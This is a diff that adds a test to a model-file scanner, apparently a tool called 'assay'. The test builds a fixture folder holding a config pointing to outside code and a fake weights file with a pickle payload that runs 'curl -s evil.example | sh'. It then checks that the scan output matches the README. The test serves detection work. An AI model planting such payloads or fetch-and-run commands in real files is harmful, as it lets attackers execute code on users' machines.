@@ -30,6 +30,21 @@ def test_the_help_text_is_the_programs_own(tmp_path: Path, assay: Assay) -> None
     assert block.partition("\n")[2].strip() == assay(tmp_path, "--help").stdout.strip()
 
 
+def test_the_scan_is_what_a_scan_prints(tmp_path: Path, assay: Assay) -> None:
+    """Two bad files and a harmless one; of the remedies the README shows that there are some."""
+    folder = tmp_path / "models"
+    folder.mkdir()
+    (folder / "README.md").write_text("# A model\n")
+    (folder / "config.json").write_text('{"auto_map": {"AutoModel": "someone/else--modeling.Model"}}\n')
+    (folder / "weights.safetensors").write_bytes(b"cos\nsystem\n(S'curl -s evil.example | sh'\ntR.")
+    (block,) = [block for block in BLOCKS if block.startswith("$ assay scan models\n")]
+    shown, _, _ = block.partition("\n$ ")
+    head, _, tail = shown.partition("  ...\n")
+    printed = assay(tmp_path, "scan", "models", "--no-cache").stdout
+    assert printed.startswith(head.removeprefix("$ assay scan models\n"))
+    assert printed.strip().endswith(tail.strip())
+
+
 @pytest.mark.parametrize("page", PAGES, ids=lambda page: str(page.relative_to(ROOT)))
 def test_links_lead_somewhere(page: Path) -> None:
     """Every relative link on every page."""
